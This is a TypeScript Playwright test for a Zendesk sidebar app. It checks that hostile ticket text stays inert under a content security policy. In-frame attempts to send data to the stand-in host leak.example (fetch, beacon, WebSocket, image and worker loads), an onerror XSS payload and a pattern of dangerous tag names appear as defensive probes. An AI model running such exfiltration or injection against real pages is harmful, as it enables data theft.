import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Frame } from 'playwright-core';
import { openDesk, type Desk } from './browser.ts';
import { hostileReason, hostileWorld, nameWord } from './hostileAccount.ts';
import { choiceFor, find } from './steps.ts';
import { say } from './words.ts';

const { person, ticketId, shown, count } = hostileWorld();

let desk: Desk;
let escaped: string[] = [];

beforeAll(async () => {
  desk = await openDesk({
    account: (madeAt) => hostileWorld(madeAt).account,
    areHeadersShown: true,
    latencyMs: [5, 20],
    // The last journey asks for what the policy forbids, and the browser says so.
    allowedErrors: [/Content Security Policy|TrustedScript|leak\.example|blocked/i],
  });
  await desk.startAfresh();
  const context = desk.page().context();
  await context.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  await context.route('https://leak.example/**', (route) => {
    escaped.push(route.request().url());
    return route.abort();
  });
  desk.page().on('dialog', (dialog) => {
    escaped.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
});
afterAll(() => desk.close());

/** Nothing in the frame came from a text, and the policy was not touched. */
async function expectOnlyText(frame: Frame): Promise<void> {
  const found = await frame.evaluate(() => ({
    pwned: Reflect.get(window, '__pwned') as unknown,
    violations: Reflect.get(window, 'violations') as unknown,
    strangers: [...document.querySelectorAll('body *')]
      .filter((element) =>
        /^(script|img|iframe|object|embed|link|meta|base|video|audio|marquee|math|template)$/.test(
          element.localName,
        ),
      )
      .map((element) => element.outerHTML),
    handlers: [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes].filter(
        ({ name, value }) => name.startsWith('on') || /^\s*javascript:/i.test(value),
      ),
    ).length,
    overflow: document.documentElement.scrollWidth - window.innerWidth,
    // A name that runs into its neighbour could pass for the neighbour's words.
    collisions: [...document.querySelectorAll('li dl')].filter((facts) => {
      const name = facts.parentElement?.querySelector('button');
      return name && name.getBoundingClientRect().right > facts.getBoundingClientRect().left;
    }).length,
  }));
  expect(found).toEqual({
    pwned: undefined,
    violations: [],
    strangers: [],
    handlers: 0,
    overflow: 0,
    collisions: 0,
  });
  for (const other of desk.page().frames())
    expect(await other.evaluate(() => Reflect.get(window, '__pwned') as unknown)).toBeUndefined();
  expect(escaped).toEqual([]);
}

/** Each text stands in the document as it was sent, character by character. */
async function expectShown(frame: Frame, texts: readonly string[]): Promise<void> {
  const missing = await frame.evaluate((wanted) => {
    const said = document.body.textContent;
    return wanted.filter((text) => !said.includes(text));
  }, texts as string[]);
  expect(missing).toEqual([]);
}

it('hostile text in every field stays text, with the content policy on', async () => {
  expect(count).toBeGreaterThanOrEqual(200);
  const sidebar = await desk.openTicket(ticketId);
  await sidebar.getByText(say('elsewhere.how')).waitFor();
  const side = await desk.sidebarFrame();
  await expectShown(side, shown.inSidebar);
  await expectOnlyText(side);
  await sidebar
    .getByRole('button', { name: say('sidebar.call.delete') })
    .nth(3)
    .click();
  const asked = sidebar.getByRole('dialog');
  await asked.getByText(say('deletion.dialog.final')).waitFor();
  await expectOnlyText(side);
  await asked.getByRole('button', { name: say('words.cancel') }).click();

  const page = await desk.openAppPage();
  const frame = await desk.appPageFrame();
  const candidates = await find(page, nameWord);
  await candidates.nth(29).waitFor();
  await expectShown(frame, shown.inCandidates);
  await expectOnlyText(frame);
  await candidates.first().getByRole('button').first().click();

  await page.getByRole('button', { name: say('page.person.coverage.again') }).waitFor();
  await expectShown(frame, [person.name, person.email!, person.phone!]);
  const seen = new Set<string>();
  const table = page.getByRole('region', { name: say('page.person.table.name') });
  for (let step = 0; step < 12; step++) {
    for (const text of await table.evaluate(
      (element, wanted) => wanted.filter((one) => element.textContent.includes(one)),
      shown.inTable as string[],
    ))
      seen.add(text);
    await table.evaluate((element) => element.scrollBy(0, 400));
  }
  expect(shown.inTable.filter((text) => !seen.has(text))).toEqual([]);
  await expectOnlyText(frame);

  await page.getByRole('button', { name: /^Select all/ }).click();
  await page.getByRole('button', { name: say('page.person.delete', { n: 90 }) }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText(say('personPage.deletion.final')).waitFor();
  await expectShown(
    frame,
    shown.inTable.filter((_, index) => index % 2 === 0),
  );
  await expectOnlyText(frame);
  await dialog.getByRole('button', { name: say('words.cancel') }).click();

  await page.getByRole('button', { name: say('page.person.erase') }).click();
  await page.getByText(say('erase.check.copy')).click();
  await expectOnlyText(frame);
  await page.getByRole('button', { name: say('erase.check.next') }).click();
  await choiceFor(page, ticketId).selectOption('delete');
  await expectShown(frame, shown.inDecide);
  await expectOnlyText(frame);
  await page.getByRole('button', { name: say('erase.decide.next') }).click();
  await page
    .getByLabel(say('erase.approve.type', { id: String(person.id) }))
    .fill(String(person.id));
  await expectShown(frame, [person.email!, person.phone!]);
  await page.getByRole('button', { name: say('erase.approve.start') }).click();
  await dialog.getByText(say('erase.approve.final')).waitFor();
  await expectOnlyText(frame);
  await dialog.getByRole('button', { name: say('words.cancel') }).click();
  expect(desk.server.zendesk().history).toEqual([]);
});

it('hostile words of Zendesk’s own stand beside the app’s as text', async () => {
  await desk
    .page()
    .route('**/zendesk/api/v2/tickets/*/comments*', (route) =>
      route.fulfill({ status: 422, json: { error: 'RecordInvalid', description: hostileReason } }),
    );
  const sidebar = await desk.openTicket(ticketId);
  await sidebar.getByRole('alert').getByText(say('words.zendeskSays')).waitFor();
  const frame = await desk.sidebarFrame();
  await expectShown(frame, [hostileReason]);
  await expectOnlyText(frame);
});

it('what runs inside the frame all the same can neither load nor send anything', async () => {
  const frame = await desk.sidebarFrame();
  const outcome = await frame.evaluate(async () => {
    const attempt = async (act: () => unknown): Promise<string> => {
      try {
        await act();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    const loading = (element: HTMLElement): Promise<string> =>
      new Promise((told) => {
        element.onload = () => told('loaded');
        element.onerror = () => told('refused');
        document.body.append(element);
      });
    const image = document.createElement('img');
    image.src = 'https://leak.example/pixel.png';
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = 'https://leak.example/x.css';
    const told = {
      fetch: await attempt(() => fetch('https://leak.example/')),
      ownOrigin: await attempt(() => fetch(location.href)),
      image: await loading(image),
      style: await loading(style),
      beacon: await attempt(() => navigator.sendBeacon('https://leak.example/', 'x')),
      socket: await attempt(
        () =>
          new Promise((opened, refused) => {
            const socket = new WebSocket('wss://leak.example/');
            socket.onopen = opened;
            socket.onerror = refused;
          }),
      ),
      events: await attempt(
        () =>
          new Promise((opened, refused) => {
            const events = new EventSource('https://leak.example/');
            events.onopen = opened;
            events.onerror = refused;
          }),
      ),
      scriptFrom: await attempt(() => {
        document.createElement('script').src = 'https://leak.example/x.js';
      }),
      scriptText: await attempt(() => {
        document.createElement('script').text = '__pwned=1';
      }),
      markup: await attempt(() => {
        document.createElement('div').innerHTML = '<img src=x onerror=__pwned=1>';
      }),
      code: await attempt(() => Reflect.construct(Function, ['__pwned=1'])),
      worker: await attempt(() => new Worker('https://leak.example/worker.js')),
      policy: await attempt(() =>
        window.trustedTypes?.createPolicy('mine', { createScriptURL: (address) => address }),
      ),
    };
    return { told, violations: Reflect.get(window, 'violations') as string[] };
  });
  expect(outcome.told).toMatchObject({
    fetch: 'refused',
    ownOrigin: 'refused',
    image: 'refused',
    style: 'refused',
    socket: 'refused',
    events: 'refused',
    scriptFrom: 'refused',
    scriptText: 'refused',
    markup: 'refused',
    code: 'refused',
    worker: 'refused',
    policy: 'refused',
  });
  expect(outcome.violations.join('\n')).toMatch(/connect-src https:\/\/leak\.example/);
  expect(await frame.evaluate(() => Reflect.get(window, '__pwned') as unknown)).toBeUndefined();
  expect(escaped).toEqual([]);
  escaped = [];
});
